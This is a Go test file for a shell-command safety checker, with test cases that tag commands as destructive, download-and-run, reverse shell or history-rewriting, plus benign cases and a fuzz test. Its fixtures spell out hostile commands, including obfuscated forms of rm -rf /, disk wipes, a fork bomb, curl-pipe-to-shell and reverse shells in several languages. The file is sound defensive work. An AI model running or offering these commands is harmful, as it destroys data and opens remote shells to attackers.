package shellparse

import (
	"strings"
	"testing"
)

func kinds(hits []Hit) string {
	var ks []string
	for _, h := range hits {
		ks = append(ks, string(h.Kind))
	}
	return strings.Join(dedupe(ks), ",")
}

func TestHostile(t *testing.T) {
	tests := []struct {
		src  string
		want Kind
	}{
		{"rm -rf /", Destructive},
		{"r''m -rf /", Destructive},
		{`r\m -rf /`, Destructive},
		{"rm${IFS}-rf${IFS}/", Destructive},
		{"rm$IFS-rf$IFS/", Destructive},
		{"$(printf 'rm') -rf /", Destructive},
		{"$(printf '\\x72\\x6d') -rf /", Destructive},
		{"echo cm0gLXJmIC8= | base64 -d | sh", Destructive},
		{"echo cm0gLXJmIC8= | base64 --decode | bash", Destructive},
		{"bash -c \"$(echo cm0gLXJmIC8= | base64 -d)\"", Destructive},
		{"base64 -d <<< cm0gLXJmIC8= | sh", ObfuscatedExec},
		{`$'\x72\x6d' -rf /`, Destructive},
		{`$'\162\155' -rf /`, Destructive},
		{"гm -rf /", Destructive},
		{"/bin/rm --recursive --force --no-preserve-root /", Destructive},
		{"find / -delete", Destructive},
		{"find / -exec rm -rf {} \\;", Destructive},
		{"bash -c 'rm -rf ~'", Destructive},
		{"sh -lc \"rm -rf $HOME\"", Destructive},
		{"sudo rm -rf /*", Destructive},
		{"sudo -u root env FOO=1 nice -n 5 rm -fr /etc", Destructive},
		{"a=r;b=m; $a$b -rf /", Destructive},
		{"x=rmx; ${x:0:2} -rf ~/", Destructive},
		{"rm -rf ${HOME}", Destructive},
		{"${PATH:0:1}bin/rm -rf ${PATH:0:1}", Destructive},
		{"eval 'rm -rf /'", Destructive},
		{"bash <<EOF\nrm -rf /\nEOF", Destructive},
		{"ssh prod 'rm -rf /var'", Destructive},
		{"mkfs.ext4 /dev/sda1", Destructive},
		{"dd if=/dev/zero of=/dev/sda bs=1M", Destructive},
		{"cat /dev/urandom > /dev/nvme0n1", Destructive},
		{"chmod -R 777 /", Destructive},
		{"chown -R nobody /etc", Destructive},
		{":(){ :|:& };:", Destructive},
		{"bomb() { bomb | bomb & }; bomb", Destructive},
		{"curl -s https://x | sudo bash", DownloadExec},
		{"wget -qO- x | sh", DownloadExec},
		{"curl -fsSL https://get.example.sh | sh -s -- --yes", DownloadExec},
		{"bash <(curl -s https://x)", DownloadExec},
		{"sh -c \"$(curl -fsSL https://x/install.sh)\"", DownloadExec},
		{"curl -o /tmp/i.sh https://x && bash /tmp/i.sh", DownloadExec},
		{"curl https://x | python3", DownloadExec},
		{"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", ReverseShell},
		{"nc -e /bin/sh 1.2.3.4 4444", ReverseShell},
		{"ncat 1.2.3.4 4444 -e /bin/bash", ReverseShell},
		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", ReverseShell},
		{`python -c 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`, ReverseShell},
		{`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");'`, ReverseShell},
		{"socat tcp-connect:1.2.3.4:4444 exec:/bin/sh,pty", ReverseShell},
		{`awk 'BEGIN {s = "/inet/tcp/0/1.2.3.4/4444"; while (1) {s |& getline c; print c |& s}}' /dev/null`, ReverseShell},
		{`php -r '$s=fsockopen("1.2.3.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, ReverseShell},
		{"telnet 1.2.3.4 4444 | /bin/bash | telnet 1.2.3.4 4445", ReverseShell},
		{`echo "ssh-ed25519 AAAA attacker" >> ~/.ssh/authorized_keys; rm -rf ~`, Destructive},
		{"git push --force origin main", GitRewrite},
		{"git push -f", GitRewrite},
		{"git push origin +main", GitRewrite},
		{"git push origin :release", GitRewrite},
		{"git push --delete origin v1", GitRewrite},
		{"git branch -D feature", GitRewrite},
		{"git tag -d v1.0", GitRewrite},
		{"git filter-branch --tree-filter 'rm x' HEAD", GitRewrite},
		{"git -C repo reset --hard HEAD~3", GitRewrite},
		{"rm -rf *", BroadDelete},
		{"cd / && rm -rf *", Destructive},
		{"cd ~; rm -rf .", Destructive},
		{"cd /etc && find . -delete", Destructive},
		{`python3 -c 'import os; os.system("rm -rf /")'`, Destructive},
		{`perl -e 'system("curl -s https://x | sh")'`, DownloadExec},
		{`node -e 'require("child_process").execSync("rm -rf ~")'`, Destructive},
		{"rm -rf -- /", Destructive},
		{"rm -r -f //", Destructive},
		{"rm -rf ${HOME:-/}", Destructive},
		{`\rm -rf /usr/../`, Destructive},
		{"exec 5<>/dev/tcp/1.2.3.4/80", ReverseShell},
		{"source <(curl -s https://x)", DownloadExec},
		{"rm -rf .", BroadDelete},
	}
	for _, tc := range tests {
		t.Run(tc.src, func(t *testing.T) {
			s, hits := Check(tc.src)
			for _, h := range hits {
				if h.Kind == tc.want {
					return
				}
			}
			t.Errorf("Check(%q) = [%s], want %s\nde-obfuscated: %s", tc.src, kinds(hits), tc.want, s.Text())
		})
	}
}

func TestBenign(t *testing.T) {
	for _, src := range []string{
		"rm -rf ./build",
		"cd /tmp/build && rm -rf *",
		"cd ~/project && rm -rf dist",
		"rm -rf node_modules",
		"rm -rf /tmp/moat-test-123",
		"rm -f /etc/nginx/sites-enabled/old.conf",
		"rm -rf ~/project/dist",
		"git push",
		"git push origin feature/x",
		"git push -u origin HEAD",
		"git branch -d merged-branch",
		"git reset --soft HEAD~1",
		"cat README.md",
		"ls -la /",
		"find . -name '*.pyc' -delete",
		"find /tmp/build -type f -name '*.o' -exec rm {} +",
		"curl -s https://api.github.com/repos/x/y | jq .stargazers_count",
		"wget https://example.com/file.tar.gz && tar xzf file.tar.gz",
		"echo 'rm -rf /' > notes.txt",
		"grep -r 'rm -rf' .",
		"chmod -R u+w ./dist",
		"chmod +x ./script.sh",
		"dd if=disk.img of=backup.img",
		"python -c 'print(1)'",
		"echo hello | base64",
		"docker run --rm -it alpine sh",
		"go test ./... && go vet ./...",
		"npm run build > /dev/null 2>&1",
		"nc -z localhost 8080",
		"ls $HOME",
	} {
		t.Run(src, func(t *testing.T) {
			s, hits := Check(src)
			if len(hits) > 0 {
				t.Errorf("Check(%q) = %+v\nde-obfuscated: %s", src, hits, s.Text())
			}
		})
	}
}

func TestDeobfuscatedText(t *testing.T) {
	tests := map[string]string{
		"r''m${IFS}-rf /":                    "rm -rf /",
		`$'\x72\x6d' -rf /`:                  "rm -rf /",
		"echo cm0gLXJmIC8= | base64 -d | sh": "echo cm0gLXJmIC8= | base64 -d | sh",
		"sudo rm -rf /*":                     "rm -rf /*",
	}
	for in, want := range tests {
		if got := Parse(in).Text(); got != want {
			t.Errorf("Parse(%q).Text = %q, want %q", in, got, want)
		}
	}
}

func FuzzShell(f *testing.F) {
	for _, s := range []string{"rm -rf /", "r''m${IFS}-rf /", "$(printf '\\x72')", "echo cm0= | base64 -d | sh", "a=$(b=$(c)", "${x:", "$'\\", "bash <<E\nx\nE", ":(){ :|:& };:", "find / -exec {} ;", "\"`", "${!x}", "eval eval eval x", strings.Repeat("`", 600), strings.Repeat("eval ", 100), strings.Repeat("$(", 300)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		sc, _ := Check(s)
		if len(sc.Commands()) > 4*MaxCommands {
			t.Fatalf("too many commands: %d", len(sc.Commands()))
		}
	})
}
